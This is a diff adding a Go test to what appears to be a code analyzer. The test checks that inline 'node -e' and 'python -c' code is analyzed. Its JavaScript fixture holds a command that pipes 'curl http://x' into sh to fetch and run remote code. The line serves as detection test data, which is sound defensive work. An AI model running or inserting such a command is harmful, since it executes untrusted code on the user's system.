@@ -296,3 +296,16 @@ module.exports = { later };
 		t.Error("exported function never called at load is still inside a function")
 	}
 }
+
+func TestInlineCodeOnCommandLines(t *testing.T) {
+	f := Analyze(&Unit{Path: "package.json", Line: 1, Lang: Shell, Text: []byte(`node -e "require('child_process').exec('curl http://x | sh')"`)}, DefaultLimits())
+	if _, _, ok := findCall(f, "child_process.exec"); !ok {
+		t.Error("node -e code not analyzed as JavaScript")
+	}
+	g := analyzeSrc(Python, `import os
+os.system("python3 -c 'import socket; socket.gethostname()'")
+`)
+	if _, _, ok := findCall(g, "socket.gethostname"); !ok {
+		t.Error("python -c code not analyzed as Python")
+	}
+}
